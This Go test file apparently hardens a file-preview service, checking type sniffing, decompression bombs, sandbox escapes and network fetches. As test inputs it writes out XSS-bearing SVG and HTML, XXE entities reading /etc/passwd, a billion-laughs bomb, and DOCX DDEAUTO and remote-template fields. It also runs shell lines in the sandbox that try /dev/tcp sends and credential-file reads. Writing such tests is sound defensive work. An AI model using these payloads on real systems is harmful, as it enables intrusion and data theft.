package preview

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"image"
	"image/color"
	"image/draw"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// T112: what a file is called changes nothing about how browsers are told to
// take it.
func TestTypeIsOfTheBytes(t *testing.T) {
	png := rawPNG(1, 1, make([]byte, 5))
	svg := []byte(`<?xml version="1.0"?><!-- x --><svg xmlns="http://www.w3.org/2000/svg" onload="top.PWN=1"/>`)
	for _, c := range []struct {
		name string
		head []byte
		kind Kind
		mime string
	}{
		{"a.html", png, Image, "image/png"},
		{"a", png, Image, "image/png"},
		{"a.svg", png, Image, "image/png"},
		{"a.png", svg, SVG, anything},
		{"a.SVG", svg, SVG, anything},
		{"a.svg%00.png", svg, SVG, anything},
		{"a.svg\x00.png", svg, SVG, anything},
		{"invoice.pdf.svg", svg, SVG, anything},
		{"a.txt", []byte("\xef\xbb\xbf \n<SVG onload=alert(1)>"), SVG, anything},
		{"a.txt", []byte("\xff\xfe<\x00s\x00v\x00g\x00>\x00"), SVG, anything},
		{"a.xml", []byte(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`), SVG, anything},
		{"a.txt", []byte("<!doctype html><script>top.PWN=1</script>"), Code, anything},
		{"a.png", []byte("<html><body onload=x>"), Code, anything},
		{"a.txt", []byte("\n\n  <script>x</script>"), Code, anything},
		{"a.html", []byte("nothing of the kind"), Code, anything},
		{"a.XHTML", []byte("nothing of the kind"), Code, anything},
		{"a.txt", []byte(`<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>`), Code, anything},
		{"a.txt", []byte("From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related"), Code, anything},
		{"a.mht", []byte("x"), Code, anything},
		{"a.pdf", []byte("<html>%PDF-1.4"), Code, anything},
		{"a.html", []byte("%PDF-1.4\n<html><script>"), PDF, "application/pdf"},
		{"a.js", []byte("GIF89a/*\x01\x00\x00*/=1;top.PWN=1"), Image, "image/gif"},
		{"a.mp4", []byte("#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1/x\n"), Text, plainText},
		{"a.docx", []byte("PK\x03\x04xxxx"), Office, zipped["docx"]},
		{"a.zip", []byte("PK\x03\x04xxxx"), Archive, "application/zip"},
		{"a.doc", []byte("PK\x03\x04xxxx"), Archive, "application/zip"},
		{"a.docx", png, Image, "image/png"},
		{"a.docx", []byte("MZ\x90\x00\x03\x00"), Other, anything},
		{"a.png", []byte("\x7fELF\x02\x01\x01\x00"), Other, anything},
		{"a.md", []byte("# Hi\n"), Markdown, plainText},
		{"a.csv", []byte("a,b\n"), CSV, plainText},
		{"main.go", []byte("package main\n"), Code, plainText},
		{"a", []byte("hello"), Text, plainText},
		{"a", []byte("caf\xe9"), Text, anything},
		{"a", nil, Text, plainText},
		{"a.mp3", []byte("\xff\xfb\x90\x64\x00\x00"), Audio, "audio/mpeg"},
		{"a.mov", []byte("\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00"), Video, "video/quicktime"},
		{"a.heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00"), Image, "image/heic"},
		{"BM.txt", []byte("BM is a shop that sells many things"), Text, plainText},
	} {
		if kind, mime := Sniff(c.head, c.name); kind != c.kind || mime != c.mime {
			t.Errorf("%q %.30q: %s %s, want %s %s", c.name, c.head, kind, mime, c.kind, c.mime)
		}
	}
}

// safe are the types that may be delivered. None of them is one in which a
// browser runs anything.
var safe = map[string]bool{anything: true, plainText: true}

func init() {
	for _, m := range magics {
		safe[m.mime] = true
	}
	for _, list := range []map[string]string{zipped, compound} {
		for _, mime := range list {
			safe[mime] = true
		}
	}
	for mime := range demuxers {
		safe[mime] = true
	}
	for _, mime := range []string{"image/heic", "image/avif", "image/bmp", "application/zip"} {
		safe[mime] = true
	}
}

func FuzzSniff(f *testing.F) {
	for _, m := range magics {
		f.Add([]byte(strings.Repeat("\x00", m.at)+m.bytes), "a.html")
	}
	f.Add([]byte("<?xml <!-- <!doctype"), "a.svg")
	f.Add([]byte("\xff\xfe<\x00h\x00t\x00m\x00l\x00"), "x")
	f.Fuzz(func(t *testing.T, head []byte, name string) {
		kind, mime := Sniff(head, name)
		if !safe[mime] {
			t.Errorf("%s", mime)
		}
		if kind == SVG && mime != anything {
			t.Errorf("an SVG is delivered as %s", mime)
		}
		if low := strings.ToLower(strings.TrimSpace(string(head))); mime == plainText && (strings.HasPrefix(low, "<html") || strings.HasPrefix(low, "<svg") || strings.HasPrefix(low, "<!doctype") || strings.HasPrefix(low, "<script") || strings.HasPrefix(low, "<?xml")) {
			t.Errorf("%q is delivered as a text", head)
		}
	})
}

func FuzzOrientation(f *testing.F) {
	f.Add([]byte("II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x06\x00\x00\x00"))
	f.Add([]byte("MM\x00*\xff\xff\xff\xff"))
	f.Add(withExif([]byte("\xff\xd8\xff\xda"), 6, binary.BigEndian))
	f.Add([]byte("\xff\xd8\xff\xff\xff\xe1\x00\x02\xff\xe1\x00\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if way := orientation(bytes.NewReader(b)); way < 1 || way > 8 {
			t.Errorf("%d", way)
		}
	})
}

// T117: a few bytes that ask for much memory, and files that are not what they
// say. Each has no preview, and soon.
func TestBombs(t *testing.T) {
	m := maker(t)
	m.Walls()
	film := []byte(nil)
	if m.tools.ffmpeg != "" {
		film = filmOf(t)
	}
	hollow := func(parts ...part) []byte { return docxOf(t, append([]part{wordBody("", "x", "")}, parts...)...) }
	nested := strings.Repeat("[", 100_000)
	bombs := map[string][]byte{
		"pixels.png":    rawPNG(50_000, 50_000, make([]byte, 1000)),
		"wide.png":      rawPNG(16_001, 1, make([]byte, 70_000)),
		"much.png":      rawPNG(8000, 8000, make([]byte, 1000)),
		"liar.png":      rawPNG(7000, 7000, make([]byte, 1000)),
		"nothing.png":   rawPNG(0, 0, nil),
		"frames.gif":    gifOf(t, 65_535),
		"one more.gif":  gifOf(t, maxFrames+1),
		"screen.gif":    append([]byte("GIF89a\xff\xff\xff\xff\x80\x00\x00"), make([]byte, 64)...),
		"bomb.webp":     []byte("RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff"),
		"bomb.bmp":      append([]byte("BM\x00\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\xff\xff\xff\x7f\xff\xff\xff\x7f\x01\x00\x18\x00"), make([]byte, 64)...),
		"bomb.tiff":     append([]byte("II*\x00\x08\x00\x00\x00\xff\xff"), bytes.Repeat([]byte("\x00\x01\x04\x00\x01\x00\x00\x00\xff\xff\xff\x7f"), 200)...),
		"empty.jpg":     []byte("\xff\xd8\xff"),
		"page.jpg":      []byte("\xff\xd8\xff\xe0<html><script>top.PWN=1</script>"),
		"script.gif":    []byte("GIF89a/*\x01\x00\x00*/=1;top.PWN=1"),
		"list.zip.docx": hollow(part{"big.xml", strings.Repeat("\x00", 64<<20)}),
		"entries.docx": hollow(func() (p []part) {
			for i := range maxEntries + 1 {
				p = append(p, part{"f" + strconv.Itoa(i), ""})
			}
			return p
		}()...),
		"not.docx":     []byte("PK\x03\x04 and nothing else"),
		"entities.svg": []byte(`<?xml version="1.0"?><!DOCTYPE svg [` + laughs() + `]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`),
		"deep.pdf":     []byte("%PDF-1.4\n1 0 obj" + nested + "endobj\ntrailer<</Root 1 0 R>>"),
		"empty.pdf":    []byte("%PDF-1.7"),
		"locked.zip":   []byte("PK\x03\x04"),
		"film.mp4":     []byte("\x00\x00\x00\x18ftypisom\xff\xff\xff\xffmoov\xff\xff\xff\xfftrak"),
		"cut.mp4":      film[:len(film)/3],
		"sound.mp3":    append([]byte("ID3\x04\x00\x00\x7f\x7f\x7f\x7f"), make([]byte, 100)...),
	}
	for name, b := range bombs {
		start := time.Now()
		if r, err := m.made(t, b, name); !errors.Is(err, ErrNone) {
			t.Errorf("%s: %+v, %v", name, r, err)
		}
		if took := time.Since(start); took > 15*time.Second {
			t.Errorf("%s took %v", name, took)
		}
	}
}

// laughs are entities of which each is ten of the one before.
func laughs() string {
	s := `<!ENTITY l0 "ha">`
	for i := 1; i < 10; i++ {
		s += `<!ENTITY l` + strconv.Itoa(i) + ` "` + strings.Repeat("&l"+strconv.Itoa(i-1)+";", 10) + `">`
	}
	return s
}

// Texts in a picture that unpack to much are not unpacked.
func TestBombsBesideThePicture(t *testing.T) {
	m := maker(t)
	text := deflated(make([]byte, 200<<20))
	b := rawPNG(2, 2, make([]byte, 2*9),
		chunk("zTXt", append([]byte("a\x00\x00"), text...)),
		chunk("iTXt", append([]byte("a\x00\x01\x00\x00\x00"), text...)),
		chunk("iCCP", append([]byte("a\x00\x00"), text...)))
	if r, err := m.made(t, b, "a.png"); err != nil || r.Width != 2 {
		t.Errorf("%+v, %v", r, err)
	}
}

// T118: a document whose parts unpack to more than they say they do, or that is
// written to be long to read, ends with its converter.
func TestEntitiesInADocument(t *testing.T) {
	m := maker(t)
	need(t, m.tools.soffice, "libreoffice-writer-nogui")
	b := docxOf(t, wordBody(`<!DOCTYPE w:document [`+laughs()+`]>`, "&l9;", ""))
	start := time.Now()
	r, err := m.made(t, b, "a.docx")
	if err == nil && strings.Contains(r.Text, strings.Repeat("ha", 1000)) {
		t.Errorf("the entities were unfolded: %d bytes of text", len(r.Text))
	}
	if took := time.Since(start); took > 60*time.Second {
		t.Errorf("it took %v", took)
	}
}

// Of every file, every beginning: nothing is an error of ours.
func TestCutOff(t *testing.T) {
	m := maker(t)
	files := map[string][]byte{
		"a.jpg": withExif(jpegOf(t, arrow()), 6, binary.LittleEndian), "a.png": pngOf(t, arrow()), "a.gif": gifOf(t, 3),
		"a.pdf": pdfOf(100, 100, "", "x"), "a.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`),
	}
	if m.tools.ffmpeg != "" {
		files["a.mp4"] = filmOf(t)
		files["a.webp"] = encoded(t, "a.webp", "-f", "lavfi", "-i", "testsrc=duration=1:size=64x64:rate=1", "-frames:v", "1")
	}
	for name, b := range files {
		for _, part := range []int{1, 3, 6, 9} {
			m.made(t, b[:len(b)*part/10], name) // complains of anything but ErrNone
		}
	}
	for n := range len(files["a.jpg"]) / 40 {
		orientation(bytes.NewReader(files["a.jpg"][:n]))
	}
}

// A listener says how often somebody came.
type listener struct {
	net.Listener
	came atomic.Int32
}

func listen(t *testing.T) *listener {
	t.Helper()
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{Listener: inner}
	t.Cleanup(func() { inner.Close() })
	go func() {
		for {
			conn, err := inner.Accept()
			if err != nil {
				return
			}
			l.came.Add(1)
			conn.Close()
		}
	}()
	return l
}

func (l *listener) url(path string) string { return "http://" + l.Addr().String() + path }

var sandboxes = []sandbox{bubblewrap, namespaces, bare}

// T120: no way out of any sandbox, and no way around: a converter that does
// as it is told by an attacker reaches neither a program nor a file.
func TestWalls(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(secret, []byte("CANARY"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, box := range sandboxes {
		m := in(t, box)
		if !m.walls.Network || !m.walls.Files {
			t.Errorf("%s: %+v", box, m.walls)
		}
		l := listen(t)
		original := filepath.Join(t.TempDir(), "original")
		if err := os.WriteFile(original, []byte("x"), 0o600); err != nil {
			t.Fatal(err)
		}
		r, err := m.newRoom(original)
		if err != nil {
			t.Fatal(err)
		}
		out := r.as(r.out("copy"))
		try := func(script string) (string, error) {
			got, err := m.run(t.Context(), r, order{CPU: 5, File: 1 << 20, Argv: []string{"/bin/bash", "-c", script}})
			return string(got), err
		}
		if got, err := try("cat " + r.as(original) + " && echo fine >" + out); err != nil || got != "x" {
			t.Errorf("%s: what it may do: %q, %v", box, got, err)
		}
		host, port, _ := net.SplitHostPort(l.Addr().String())
		for _, script := range []string{
			"echo hello >/dev/tcp/" + host + "/" + port,
			"echo hello >/dev/udp/" + host + "/" + port,
			"cat " + secret,
			"ls " + filepath.Dir(secret),
			"cat /etc/passwd",
			"echo x >" + secret,
			"echo x >/usr/share/vitrine-test",
			"echo x >" + filepath.Join(filepath.Dir(original), "new"),
			"echo x >>" + r.as(original),
			"ln -s /etc /tmp/vitrine-test-link && cat /tmp/vitrine-test-link/passwd",
			"cat /proc/1/environ /proc/" + strconv.Itoa(os.Getpid()) + "/environ /proc/" + strconv.Itoa(os.Getpid()) + "/mem",
			"kill -0 " + strconv.Itoa(os.Getpid()),
		} {
			if box == bare && strings.HasPrefix(script, "kill") {
				continue // takes Linux 6.12
			}
			if got, err := try(script); err == nil || strings.Contains(got, "CANARY") || strings.Contains(got, "root:") {
				t.Errorf("%s: %s: %q, %v", box, script, got, err)
			}
		}
		if env, err := try("env"); err != nil || strings.Contains(env, "VITRINE") || strings.Contains(env, os.Getenv("HOME")+"\n") {
			t.Errorf("%s: the environment: %s, %v", box, env, err)
		}
		if n := l.came.Load(); n != 0 {
			t.Errorf("%s: %d connections", box, n)
		}
		r.close()
	}
	if b, err := os.ReadFile(secret); err != nil || string(b) != "CANARY" {
		t.Errorf("the secret is now %q, %v", b, err)
	}
}

// What takes too much of anything is ended, with whatever it started.
func TestLimits(t *testing.T) {
	for _, box := range sandboxes {
		t.Run(string(box), func(t *testing.T) {
			t.Parallel()
			m := in(t, box)
			original := filepath.Join(t.TempDir(), "original")
			if err := os.WriteFile(original, []byte("x"), 0o600); err != nil {
				t.Fatal(err)
			}
			r, err := m.newRoom(original)
			if err != nil {
				t.Fatal(err)
			}
			for name, s := range map[string]order{
				"time":   {CPU: 1, Argv: []string{"/bin/bash", "-c", "sleep 300 & sleep 300"}},
				"cpu":    {CPU: 1, Argv: []string{"/bin/bash", "-c", "while :; do :; done"}},
				"memory": {CPU: 10, Memory: 100 << 20, Argv: []string{"/usr/bin/tail", "/dev/zero"}},
				"file":   {CPU: 10, File: 1 << 20, Argv: []string{"/bin/bash", "-c", "head -c 9000000 /dev/zero >" + r.as(r.out("big"))}},
			} {
				start := time.Now()
				if _, err := m.run(t.Context(), r, s); !errors.Is(err, ErrNone) {
					t.Errorf("%s: %v", name, err)
				}
				if took := time.Since(start); took > 10*time.Second {
					t.Errorf("%s took %v", name, took)
				}
			}
			if info, err := os.Stat(r.out("big")); err != nil || info.Size() > 1<<20 {
				t.Errorf("%v, %v", info, err)
			}
			ctx, cancel := context.WithCancel(t.Context())
			cancel()
			if _, err := m.run(ctx, r, order{Argv: []string{"/bin/true"}}); !errors.Is(err, context.Canceled) {
				t.Errorf("whose caller has gone: %v", err)
			}
			r.close()
		})
	}
}

// T120: files that would have their converter fetch something.
func TestNobodyIsAsked(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(secret, []byte("CANARY"), 0o644); err != nil {
		t.Fatal(err)
	}
	swatch := filepath.Join(t.TempDir(), "swatch.png")
	red := image.NewRGBA(image.Rect(0, 0, 9, 9))
	draw.Draw(red, red.Rect, image.NewUniform(color.RGBA{255, 0, 0, 255}), image.Point{}, draw.Src)
	if err := os.WriteFile(swatch, pngOf(t, red), 0o644); err != nil {
		t.Fatal(err)
	}
	all := maker(t)
	need(t, all.tools.soffice, "libreoffice-writer-nogui")
	need(t, all.tools.pdftoppm, "poppler-utils")
	need(t, all.tools.rsvg, "librsvg2-bin")
	for _, box := range sandboxes {
		m := in(t, box)
		l := listen(t)
		rel := func(kind, target string) part {
			return part{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`}
		}
		const drawing = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="x"/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
		field := func(code string) string {
			return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + code + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
		}
		files := map[string][]byte{
			"hls.mp4": []byte("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n" + l.url("/a.ts") + "\n#EXT-X-ENDLIST\n"),
			"hls.avi": []byte("#EXTM3U\n#EXTINF:10.0,\nconcat:" + l.url("/a") + "|file:" + secret + "\n"),
			"js.pdf": pdfOf(300, 300, `/OpenAction << /S /JavaScript /JS (app.launchURL("`+l.url("/js")+`"); this.submitForm("`+l.url("/form")+`")) >> /AA << /O << /S /URI /URI (`+l.url("/uri")+`) >> >>`,
				"Scripted"),
			"image.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><script>fetch("` + l.url("/s") + `")</script><style>@import url(` + l.url("/c") + `);</style><image width="50" height="50" xlink:href="` + l.url("/i.png") + `"/><image x="50" width="50" height="50" xlink:href="file://` + swatch + `"/><use href="` + l.url("/u.svg#x") + `"/></svg>`),
			"xxe.SVG":   []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://` + secret + `"><!ENTITY % y SYSTEM "` + l.url("/dtd") + `">%y;]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text y="50" fill="red">&x;</text></svg>`),
			"all.docx": docxOf(t,
				wordBody("", "Letter", drawing+field(`INCLUDETEXT &quot;file://`+secret+`&quot;`)+field(`INCLUDEPICTURE &quot;`+l.url("/p")+`&quot;`)+field(`DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;`)),
				rel("image", l.url("/i.png")),
				part{"word/settings.xml", `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="x"/></w:settings>`},
				part{"word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="` + l.url("/t.dotm") + `" TargetMode="External"/></Relationships>`}),
		}
		for name, b := range files {
			r, err := m.made(t, b, name)
			if fine := !strings.HasPrefix(name, "hls") && name != "xxe.SVG"; fine && err != nil {
				t.Errorf("%s: %s: %v", box, name, err)
			}
			if strings.Contains(r.Text, "CANARY") {
				t.Errorf("%s: %s shows a file of the server's", box, name)
			}
			if a := r.Find("large", 0); a != nil && strings.HasSuffix(strings.ToLower(name), ".svg") {
				p := picture(t, a)
				for y := range p.Bounds().Dy() {
					for x := range p.Bounds().Dx() {
						if c := color.NRGBAModel.Convert(p.At(x, y)).(color.NRGBA); c.A > 100 && c.R > 200 && c.G < 50 {
							t.Fatalf("%s: %s shows something red, which is in other files only", box, name)
						}
					}
				}
			}
		}
		// Somebody may come to take a list for a film all the same.
		path := filepath.Join(t.TempDir(), "hls")
		for _, name := range []string{"hls.mp4", "hls.avi"} {
			os.WriteFile(path, files[name], 0o600)
			if _, err := m.Make(t.Context(), path, t.TempDir(), Video, name); !errors.Is(err, ErrNone) {
				t.Errorf("%s: %s: %v", box, name, err)
			}
		}
		if n := l.came.Load(); n != 0 {
			t.Errorf("%s: %d connections", box, n)
		}
	}
}

// A converter that was taken over leaves something else than a picture.
func TestWhatIsLeftIsLookedAt(t *testing.T) {
	m := maker(t)
	secret := filepath.Join(t.TempDir(), "secret.png")
	if err := os.WriteFile(secret, pngOf(t, arrow()), 0o600); err != nil {
		t.Fatal(err)
	}
	r, err := m.newRoom(secret)
	if err != nil {
		t.Fatal(err)
	}
	defer r.close()
	j := &making{m: m, room: r, dir: t.TempDir()}
	for name, make := range map[string]func(path string) error{
		"link":  func(path string) error { return os.Symlink(secret, path) },
		"dir":   func(path string) error { return os.Mkdir(path, 0o700) },
		"svg":   func(path string) error { return os.WriteFile(path, []byte("<svg/>"), 0o600) },
		"html":  func(path string) error { return os.WriteFile(path, []byte("<html>"), 0o600) },
		"pdf":   func(path string) error { return os.WriteFile(path, []byte("%PDF-1.4"), 0o600) },
		"large": func(path string) error { return os.WriteFile(path, rawPNG(5000, 1, nil), 0o600) },
		"huge": func(path string) error {
			return errors.Join(os.WriteFile(path, pngOf(t, arrow()), 0o600), os.Truncate(path, 1<<30))
		},
		"none": func(path string) error { return nil },
	} {
		if err := make(r.out(name)); err != nil {
			t.Fatal(err)
		}
		if err := j.take(r, name, Artifact{Kind: "thumb"}, thumbSide); !errors.Is(err, ErrNone) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if len(j.result.Artifacts) != 0 {
		t.Errorf("%+v", j.result.Artifacts)
	}
}

func TestOneAtATime(t *testing.T) {
	m := maker(t)
	m.slots <- struct{}{}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := m.Make(ctx, "nowhere", t.TempDir(), Text, "a.txt"); !errors.Is(err, context.Canceled) {
		t.Errorf("a second one: %v", err)
	}
}

// The command line of a worker is no door into it.
func TestWorkerAlone(t *testing.T) {
	for _, args := range [][]string{nil, {"confine"}, {"inside", "{}"}, {"inside", "no"}, {"x", "{}"}} {
		if work(args) == 0 {
			t.Errorf("%q did something", args)
		}
	}
}
